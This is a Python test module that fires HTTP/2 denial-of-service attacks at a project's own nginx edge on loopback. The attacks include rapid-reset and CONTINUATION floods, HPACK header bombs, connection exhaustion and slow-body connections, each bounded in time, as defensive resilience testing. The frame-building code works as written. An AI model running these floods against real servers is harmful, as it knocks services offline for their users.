"""What a hostile client can send to an HTTP/2 server: raw frames over TLS, on loopback, bounded in bytes and seconds.

Each attack is a function of a target and a scale (1: a second or two) that says what became of it. Most come with the
certificate of a member's system, for without one nginx passes nothing on to a service.
"""

import contextlib
import ssl
import struct
import time

import hpack
import socket

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LIST = "/partnerskap.membership.v1.MembershipService/ListOrganizations"
EMPTY_MESSAGE = bytes(5)
# The largest frame that a server takes unless it says otherwise.
FRAME_BYTES = 16384
# A server that takes nothing more for so long has won.
SEND_SECONDS = 2
# The edge's client_header_timeout is 5 s; the rest is a busy machine's slowness.
CLOSED_WITHIN_SECONDS = 15
# A flood of scale 1 lasts so long.
FLOOD_SECONDS = 1
# So much of the largest frames is 80 MiB: far above every limit.
MOST_ON_ONE = 5000
HUNDRED = "hundreds of frames"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(extra=(), path=LIST):
    """A block that takes nothing from the table, so that it can be sent on any stream."""
    block = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
             ("te", "trailers"), ("content-type", "application/grpc"), *extra]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*each) for each in block], huffman=False)


class Connection:
    """One connection that has said its preface. Errors of sending mean that the server has had enough."""

    def __init__(self, target, acknowledge=True, preface=PREFACE + frame(SETTINGS, 0, 0)):
        plain = socket.create_connection(target.address, timeout=SEND_SECONDS)
        self._socket = target.context.wrap_socket(plain, server_hostname="localhost")
        self._socket.settimeout(SEND_SECONDS)
        self.closed = False
        self.sent = 0
        self.send(preface)
        if acknowledge:
            self.send(frame(SETTINGS, ACK, 0))

    def send(self, data):
        """False when the server takes no more."""
        try:
            self._socket.sendall(data)
            self.sent += len(data)
        except OSError:
            self.closed = True
        return not self.closed

    def is_closed_within(self, seconds):
        self._socket.settimeout(seconds)
        try:
            while self._socket.recv(65536):
                pass
        except TimeoutError:
            return False
        except OSError:
            pass
        return True

    def close(self):
        self._socket.close()


class Target:
    def __init__(self, suite, certificate=True):
        self.suite = suite
        self.address = ("127.0.0.1", suite.ports["edge"])
        files = suite.client_files("diary")
        self.context = ssl.create_default_context(cafile=files / "ca.pem")
        self.context.set_alpn_protocols(["h2"])
        if certificate:
            self.context.load_cert_chain(files / "cert.pem", files / "key.pem")

    def anonymous(self):
        return Target(self.suite, certificate=False)


def flood(target, chunk, scale, unit="frames", **options):
    """Sends chunk(0), chunk(1), ... and begins anew on a new connection when the server closes one or has had
    MOST_ON_ONE of them, for as long as the scale says."""
    sent = connections = 0
    end = time.monotonic() + FLOOD_SECONDS * scale
    while time.monotonic() < end:
        with contextlib.closing(Connection(target, **options)) as connection:
            connections += 1
            for i in range(MOST_ON_ONE):
                if time.monotonic() >= end or not connection.send(chunk(i)):
                    break
                sent += 1
    return f"{sent} {unit} taken over {connections} connections"


def odd(number):
    """The id of a client's stream. They have to rise on one connection."""
    return 2 * number + 1


def rapid_reset(target, scale):
    block = headers()

    def batch(number):
        ids = (odd(number * 100 + i) for i in range(100))
        return b"".join(frame(HEADERS, END_HEADERS, i, block) + frame(RST_STREAM, 0, i, b"\0\0\0\x08") for i in ids)

    return flood(target, batch, scale, "hundreds of resets")


def rapid_reset_anonymous(target, scale):
    return rapid_reset(target.anonymous(), scale)


def reset_by_the_server(target, scale):
    """Makes the server reset: a window update of 0 on each open stream."""
    block = headers()
    return flood(
        target,
        lambda i: frame(HEADERS, END_HEADERS, odd(i), block) + frame(WINDOW_UPDATE, 0, odd(i), bytes(4)),
        scale,
    )


def hpack_size(target, scale):
    """One header that says it is 400 MiB long."""
    length = hpack.hpack.encode_integer(400 << 20, 7)
    begin = frame(HEADERS, 0, 1, headers() + b"\x00\x03abc" + bytes(length))
    part = frame(CONTINUATION, 0, 1, b"a" * FRAME_BYTES)
    return flood(target, lambda i: part if i else begin, scale)


def hpack_varint(target, scale):
    """A length whose bytes never end."""
    begin = frame(HEADERS, 0, 1, headers() + b"\x00\x03abc\x7f")
    part = frame(CONTINUATION, 0, 1, b"\x80" * FRAME_BYTES)
    return flood(target, lambda i: part if i else begin, scale)


def continuation(target, scale):
    """A block that never ends, of frames that are each below the limit."""
    begin = frame(HEADERS, 0, 1, headers())
    part = frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\xf0\x2e" + b"a" * 6127)
    return flood(target, lambda i: part if i else begin, scale)


def many_connections(target, scale):
    """More than a service may have files open; each with a call."""
    held = []
    for _ in range(150 * scale):
        try:
            connection = Connection(target)
        except OSError:
            break
        connection.send(frame(HEADERS, END_HEADERS, 1, headers()))
        held.append(connection)
    for connection in held:
        connection.close()
    return f"{len(held)} connections held"


def sockets_alone(target, scale):
    """Connections that never begin TLS."""
    held = [socket.create_connection(target.address, timeout=SEND_SECONDS) for _ in range(300 * scale)]
    time.sleep(1)
    for each in held:
        each.close()
    return f"{len(held)} sockets held"


def bad_base64(target, scale):
    block = headers([("x-bad-bin", "!!!not base64!!!")])
    return flood(
        target,
        lambda i: frame(HEADERS, END_HEADERS, odd(i), block) + frame(DATA, END_STREAM, odd(i), EMPTY_MESSAGE),
        scale,
    )


def large_header(target, scale):
    block = headers([(f"x-large-{i}", "a" * 2500) for i in range(4)])
    return flood(target, lambda i: frame(HEADERS, END_HEADERS, odd(i), block), scale)


def before_settings(target, scale):
    """Streams beyond every limit, by a client that has acknowledged none."""
    block = headers()
    return flood(target, lambda i: frame(HEADERS, END_HEADERS, odd(i), block), scale, acknowledge=False)


def unread_answers(target, scale):
    """Pings whose answers are never read."""
    pings = frame(PING, 0, 0, bytes(8)) * 100
    return flood(target, lambda i: pings, scale, HUNDRED)


def settings(target, scale):
    many = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100
    return flood(target, lambda i: many, scale, HUNDRED)


def window_updates(target, scale):
    many = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100
    return flood(target, lambda i: many, scale, HUNDRED)


def empty_frames(target, scale):
    begin = frame(HEADERS, END_HEADERS, 1, headers())
    many = frame(DATA, 0, 1) * 100
    return flood(target, lambda i: many if i else begin, scale, HUNDRED)


def priorities(target, scale):
    many = b"".join(frame(PRIORITY, 0, odd(i), struct.pack(">IB", 0, 1)) for i in range(100))
    return flood(target, lambda i: many, scale, HUNDRED)


def half_preface(target, scale):
    """The edge must give these up by itself."""
    held = [Connection(target, acknowledge=False, preface=PREFACE[:10]) for _ in range(20 * scale)]
    begin = time.monotonic()
    end = begin + CLOSED_WITHIN_SECONDS
    open_still = sum(not each.is_closed_within(max(0.01, end - time.monotonic())) for each in held)
    for each in held:
        each.close()
    if open_still:
        raise AssertionError(f"{open_still} connections are open {CLOSED_WITHIN_SECONDS} s after half a preface")
    return f"{len(held)} closed by the edge after {time.monotonic() - begin:.1f} s"


def idle(target, scale):
    held = [Connection(target) for _ in range(100)]
    time.sleep(2 * scale)
    for each in held:
        each.close()
    return f"{len(held)} connections held {2 * scale} s"


def slow_bodies(target, scale):
    """As many calls as one connection may have, a byte of each from time to time."""
    with contextlib.closing(Connection(target)) as connection:
        for i in range(50):
            connection.send(frame(HEADERS, END_HEADERS, odd(i), headers()))
        rounds = 0
        end = time.monotonic() + 2 * scale
        while time.monotonic() < end and connection.send(b"".join(frame(DATA, 0, odd(i), b"\0") for i in range(50))):
            rounds += 1
            time.sleep(0.2)
    return f"50 calls, {rounds} bytes each"


ALL = {
    "rapid-reset": rapid_reset,
    "rapid-reset-anonymous": rapid_reset_anonymous,
    "reset-by-the-server": reset_by_the_server,
    "hpack-size": hpack_size,
    "hpack-varint": hpack_varint,
    "continuation": continuation,
    "many-connections": many_connections,
    "sockets-alone": sockets_alone,
    "bad-base64": bad_base64,
    "large-header": large_header,
    "before-settings": before_settings,
    "unread-answers": unread_answers,
    "settings": settings,
    "window-updates": window_updates,
    "empty-frames": empty_frames,
    "priorities": priorities,
    "half-preface": half_preface,
    "idle": idle,
    "slow-bodies": slow_bodies,
}
